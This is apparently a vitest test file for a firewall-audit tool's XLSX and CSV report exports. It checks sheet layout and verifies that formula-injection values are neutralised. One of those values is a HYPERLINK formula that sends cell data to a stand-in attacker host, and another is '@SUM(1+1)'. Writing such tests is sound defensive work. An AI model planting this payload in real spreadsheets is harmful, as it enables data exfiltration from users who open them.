import { mkdtempSync, readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { main } from '../../src-main/cli/main';
import { loadSource, runAudit, type AuditResult } from '../../src-main/core/engine/index';
import { buildReportModel, reportInputFor, writeReportCsv, writeReportXlsx, type ReportModel } from '../../src-main/core/report/index';
import { loadSiteFile } from '../../src-main/core/site/index';
import { recordingIo } from '../helpers/cli-io';

const demoSite = fileURLToPath(new URL('../../resources/demo/site.yaml', import.meta.url));
const SHEETS = ['Summary', 'Coverage', 'Findings', 'Rules', 'Remediation', 'Evidence'];
const INJECTED = '=HYPERLINK("http://attacker.example/?"&A1,"click")';

let audit: AuditResult;
let model: ReportModel;

beforeAll(() => {
  const site = loadSiteFile(demoSite);
  const result = runAudit(site, site.firewalls.map(loadSource), { toolVersion: '0.0.0-test', now: new Date('2026-11-24T10:00:00Z') });
  // A rule comment from a customer's export can carry a formula; so can any text the report repeats.
  audit = { ...result, site: { ...result.site, customer: '@SUM(1+1)' }, findings: result.findings.map((finding, index) => (index === 0 ? { ...finding, title: INJECTED } : finding)) };
  model = buildReportModel(reportInputFor(site, audit, { customer: { name: 'Müller' } }));
});

/** Rows of a sheet as SheetJS reads them back, header first. */
function rowsOf(sheet: XLSX.WorkSheet): unknown[][] {
  return XLSX.utils.sheet_to_json<unknown[]>(sheet, { header: 1, raw: true, defval: '' });
}

describe('the XLSX export', () => {
  it('reopens with the report\'s sheets, a row per matrix row and per finding', () => {
    const book = XLSX.read(writeReportXlsx(model), { type: 'buffer' });
    expect(book.SheetNames).toEqual(SHEETS);
    const coverage = rowsOf(book.Sheets.Coverage!);
    expect(coverage[0]).toEqual(['Row', 'Source', 'Destination', 'Source role', 'Destination role', 'Transport', 'Ports', 'Protocol', 'Status', 'Reason', 'Firewalls', 'Permitted by', 'Denied by', 'Missing']);
    expect(coverage.slice(1).map((row) => row[0])).toEqual(audit.flows.map((flow) => flow.row));
    const row27 = coverage.find((row) => row[0] === 27)!;
    expect(row27[8]).toBe('partial');
    expect(row27[11]).toBe('servers_in#3 (line 128): access-list servers_in extended permit tcp object WFOS-APP01 object AES-01 object-group AES-TSAPI');
    expect(row27[13]).toBe('1050-1065/tcp from 10.10.20.11 to 10.40.0.10');
    const findings = rowsOf(book.Sheets.Findings!);
    expect(findings.slice(1).map((row) => row[0])).toEqual(audit.findings.map((finding) => finding.id));
    const remediation = rowsOf(book.Sheets.Remediation!);
    expect(remediation.map((row) => row[9])).toContain('access-list servers_in line 13 extended permit udp host 10.10.20.12 host 10.50.0.20 eq 161');
  });

  it('neutralises cells a spreadsheet would read as a formula, and keeps numbers numbers', () => {
    const book = XLSX.read(writeReportXlsx(model), { type: 'buffer', cellFormula: true });
    const title = book.Sheets.Findings!.I2!;
    expect(title.t).toBe('s');
    expect(title.v).toBe(`'${INJECTED}`);
    expect(title.f).toBeUndefined();
    expect(rowsOf(book.Sheets.Summary!).find((row) => row[0] === 'Customer')![1]).toBe("'@SUM(1+1)");
    const formulas = Object.values(book.Sheets).flatMap((sheet) => Object.values(sheet).filter((cell): cell is XLSX.CellObject => typeof cell === 'object' && cell !== null && 'f' in cell && cell.f !== undefined));
    expect(formulas).toEqual([]);
    expect(book.Sheets.Coverage!.A2).toMatchObject({ t: 'n', v: 1 });
  });
});

describe('the CSV export', () => {
  it('writes one UTF-8 file per table, neutralised, that reads back row for row', () => {
    const files = writeReportCsv(model);
    expect([...files.keys()]).toEqual(SHEETS.map((name) => `${name.toLowerCase()}.csv`));
    const coverageCsv = files.get('coverage.csv')!;
    expect(coverageCsv.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const coverage = rowsOf(XLSX.read(coverageCsv.toString('utf8'), { type: 'string', raw: true }).Sheets.Sheet1!);
    expect(coverage).toHaveLength(41);
    expect(coverage[1]![6]).toBe('33012-33014,33022,33029,34101-34103,34105-34107,34301');
    const findingsText = files.get('findings.csv')!.toString('utf8');
    expect(findingsText).toContain(`"'=HYPERLINK(""http://attacker.example/?""&A1,""click"")"`);
    expect(findingsText).not.toMatch(/(^|,)=HYPERLINK/m);
    expect(files.get('summary.csv')!.toString('utf8')).toContain("Customer,'@SUM(1+1)");
    const findings = rowsOf(XLSX.read(findingsText, { type: 'string', raw: true }).Sheets.Sheet1!);
    expect(findings).toHaveLength(audit.findings.length + 1);
    expect(findings[1]![8]).toBe(`'${INJECTED}`);
  });

  it('wfos-audit audit --xlsx and --csv write them next to the summary', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'report-exports-'));
    const io = recordingIo(dir);
    expect(await main(['audit', '--site', demoSite, '--xlsx', 'report.xlsx', '--csv', 'tables'], io.cli)).toBe(0);
    expect(io.stdout).toContain('Workbook written to report.xlsx');
    expect(io.stdout).toContain('CSV files written to tables: summary.csv, coverage.csv, findings.csv, rules.csv, remediation.csv, evidence.csv');
    expect(XLSX.read(readFileSync(join(dir, 'report.xlsx')), { type: 'buffer' }).SheetNames).toEqual(SHEETS);
    expect(readdirSync(join(dir, 'tables')).sort()).toEqual(SHEETS.map((name) => `${name.toLowerCase()}.csv`).sort());
  });
});
